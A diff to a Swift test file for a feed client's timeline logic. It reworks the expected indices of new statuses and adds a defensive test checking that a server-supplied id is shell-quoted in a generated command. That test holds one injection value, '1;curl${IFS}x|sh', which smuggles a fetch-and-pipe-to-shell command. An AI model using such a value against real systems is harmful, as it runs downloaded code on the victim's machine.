@@ -9,21 +9,21 @@ import Testing
     struct Row: Sendable {
         let shown: String
         let fetched: String
-        let newer: Range<Int>
+        let newer: [Int]
         let older: Range<Int>
         let hasGap: Bool
     }
 
     /// Each character is an id; the limit is 4.
     @Test(arguments: [
-        Row(shown: "dcba", fetched: "dcba", newer: 0..<0, older: 4..<4, hasGap: false),
-        Row(shown: "dcba", fetched: "fedc", newer: 0..<2, older: 4..<4, hasGap: false),
-        Row(shown: "dcba", fetched: "hgfe", newer: 0..<4, older: 4..<4, hasGap: true),
-        Row(shown: "dcba", fetched: "fe", newer: 0..<2, older: 2..<2, hasGap: false),
-        Row(shown: "dc", fetched: "edcb", newer: 0..<1, older: 3..<4, hasGap: false),
+        Row(shown: "dcba", fetched: "dcba", newer: [], older: 4..<4, hasGap: false),
+        Row(shown: "dcba", fetched: "fedc", newer: [0, 1], older: 4..<4, hasGap: false),
+        Row(shown: "dcba", fetched: "hgfe", newer: [0, 1, 2, 3], older: 4..<4, hasGap: true),
+        Row(shown: "dcba", fetched: "fe", newer: [0, 1], older: 2..<2, hasGap: false),
+        Row(shown: "dc", fetched: "edcb", newer: [0], older: 3..<4, hasGap: false),
         // A status between the shown ones has been deleted, or has come late.
-        Row(shown: "dca", fetched: "edba", newer: 0..<1, older: 4..<4, hasGap: false),
-        Row(shown: "dcba", fetched: "", newer: 0..<0, older: 0..<0, hasGap: false),
+        Row(shown: "dca", fetched: "edba", newer: [0, 2], older: 4..<4, hasGap: false),
+        Row(shown: "dcba", fetched: "", newer: [], older: 0..<0, hasGap: false),
     ])
     func newStatusesAreTold(_ row: Row) {
         let news = TimelineNews(shown: row.shown.map(String.init), fetched: row.fetched.map(String.init), limit: 4)
@@ -36,6 +36,14 @@ import Testing
     ])
     func commandCanBeTyped(_ name: TimelineName, _ argument: String) {
         #expect(name.command(before: "7") == "feedclient timeline \(argument) --before 7")
+    }
+
+    /// The id comes from a server, and the user may copy the line into a shell.
+    @Test func idIsQuotedInACommand() {
+        #expect(
+            TimelineName.home.command(before: "1;curl${IFS}x|sh")
+                == "feedclient timeline home --before '1;curl${IFS}x|sh'")
+        #expect(TimelineName.favourites.command(before: "7") == "feedclient timeline favourites with a larger -n")
     }
 
     @Test(arguments: [(30, 2), (200, 1), (Int.max, 1)]) func gapKeepsTheCommandTogether(columns: Int, lines: Int) {
